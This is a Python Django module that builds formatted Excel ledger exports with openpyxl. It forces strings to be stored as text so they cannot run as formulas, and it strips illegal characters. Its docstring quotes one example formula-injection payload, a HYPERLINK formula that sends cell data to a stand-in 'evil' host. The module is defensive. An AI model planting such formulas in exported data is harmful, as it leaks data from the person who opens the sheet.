"""Formatted .xlsx sheets (台账): a title row, 序号, bold headers, frozen panes — one writer for every export.

Every text cell is written as text (`keep_text`, `text_value`, `append_row`): openpyxl would store a string that
begins with "=" as a formula (and "#N/A" as an error), so an event titled `=HYPERLINK("http://evil…"&A1,"x")` would
run in the spreadsheet of the officer who opens the export. Characters a sheet cannot hold are dropped, not a 500."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from io import BytesIO
from itertools import chain, islice

from django.http import HttpResponse

# openpyxl (~14 MiB, and numpy under it) is imported by the functions that write or read a workbook, not when the
# apps load: a web worker that never builds a sheet stays that much smaller (docs/deployment.md, workers).

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WIDTH_SAMPLE = 500  # rows read to size the columns
# The control characters a sheet cannot hold: openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, the same pattern
# (tests/exports check that the two agree), here so that cleaning a string does not load openpyxl.
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def clean_text(value: str) -> str:
    """A string a sheet can hold: the control characters openpyxl refuses are dropped."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def keep_text(cell):
    """Make a cell holding a string a text cell, whatever the string looks like (never a formula or an error);
    works on the cells of ordinary and of write-only sheets. Returns the cell."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def text_value(ws, value):
    """What to put in a write-only row for `value`: as it is, unless it is a string openpyxl would not store as
    text (or one with characters a sheet cannot hold) — then a WriteOnlyCell kept as text."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    if ILLEGAL_CHARACTERS_RE.search(value):
        value = clean_text(value)
    if value[:1] in ("=", "#"):
        from openpyxl.cell import WriteOnlyCell

        return keep_text(WriteOnlyCell(ws, value=value))
    return value


def append_row(ws, values: Iterable) -> int:
    """Append a row to an ordinary (not write-only) sheet with every string kept as text; returns its number."""
    values = ["" if v is None else (clean_text(v) if isinstance(v, str) else v) for v in values]
    ws.append(values)
    # openpyxl's own counter of appended rows: ws.max_row and ws[row] scan every cell of the sheet, once per row.
    row = ws._current_row
    for column in range(1, len(values) + 1):
        keep_text(ws.cell(row=row, column=column))
    return row


def text_cell(ws, row: int, column: int, value):
    """ws.cell(row, column, value) on an ordinary sheet, a string kept as text."""
    return keep_text(ws.cell(row=row, column=column, value=clean_text(value) if isinstance(value, str) else value))


def build_sheet(
    title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence],
    *,
    numbered: bool = True,
    groups: Sequence[tuple[str | None, int]] | None = None,
) -> bytes:
    """One sheet: the title merged across the columns, the header row(s), then the rows, 序号 first.

    `groups` puts a merged header above runs of columns: (label, how many columns) in order, covering `headers`;
    a None label leaves its columns' headers merged over both header rows. The sheet is written in openpyxl's
    streaming mode, so a sheet of 100,000 rows costs little memory; column widths come from the first rows."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    columns = (["序号"] if numbered else []) + [str(h) for h in headers]
    head_rows = 2 if groups else 1
    rows = iter(rows)
    sample = list(islice(rows, WIDTH_SAMPLE))
    widths = [len(h) * 2 + 2 for h in columns]
    for row in sample:
        for col, value in enumerate(row, start=1 if numbered else 0):
            widths[col] = min(max(widths[col], len(str(value if value is not None else "")) * 2 + 2), 60)
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(_sheet_name(title))
    for col, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(col)].width = width
    ws.freeze_panes = f"A{head_rows + 2}"  # before the first row: streaming writes the sheet's head then
    last = get_column_letter(len(columns))
    ws.merged_cells.add(f"A1:{last}1")
    top = keep_text(WriteOnlyCell(ws, value=clean_text(str(title))))
    top.font, top.alignment = Font(bold=True, size=14), Alignment(horizontal="center")
    ws.append([top])

    fill = PatternFill("solid", fgColor="DDEBF7")
    centred = Alignment(horizontal="center", vertical="center", wrap_text=True)

    def head(value):
        cell = keep_text(WriteOnlyCell(ws, value=clean_text(value) if isinstance(value, str) else value))
        cell.font, cell.fill, cell.alignment = Font(bold=True), fill, centred
        return cell

    if groups:
        spans = ([(None, 1)] if numbered else []) + list(groups)
        if sum(n for _, n in spans) != len(columns):
            raise ValueError("the header groups do not cover the columns")
        upper, col = [], 1
        for label, span in spans:
            first, end = get_column_letter(col), get_column_letter(col + span - 1)
            if label is None:
                for offset in range(span):
                    letter = get_column_letter(col + offset)
                    ws.merged_cells.add(f"{letter}2:{letter}3")
                    upper.append(head(columns[col - 1 + offset]))
            else:
                if span > 1:
                    ws.merged_cells.add(f"{first}2:{end}2")
                upper.extend([head(str(label))] + [head(None) for _ in range(span - 1)])
            col += span
        ws.append(upper)
        lower, col = [], 1
        for label, span in spans:
            lower.extend(head(None if label is None else columns[col - 1 + i]) for i in range(span))
            col += span
        ws.append(lower)
    else:
        ws.append([head(c) for c in columns])
    for index, row in enumerate(chain(sample, rows), start=1):
        ws.append(([index] if numbered else []) + [text_value(ws, v) for v in row])
    out = BytesIO()
    wb.save(out)
    return out.getvalue()


def _sheet_name(title: str) -> str:
    """A sheet name Excel accepts: at most 31 characters, none of : \\ / ? * [ ]."""
    return re.sub(r"[:\\/?*\[\]]", " ", title)[:31].strip() or "Sheet1"


def xlsx_response(filename: str, content: bytes) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{_quote(filename)}"
    return response


def _quote(filename: str) -> str:
    from urllib.parse import quote

    return quote(filename)
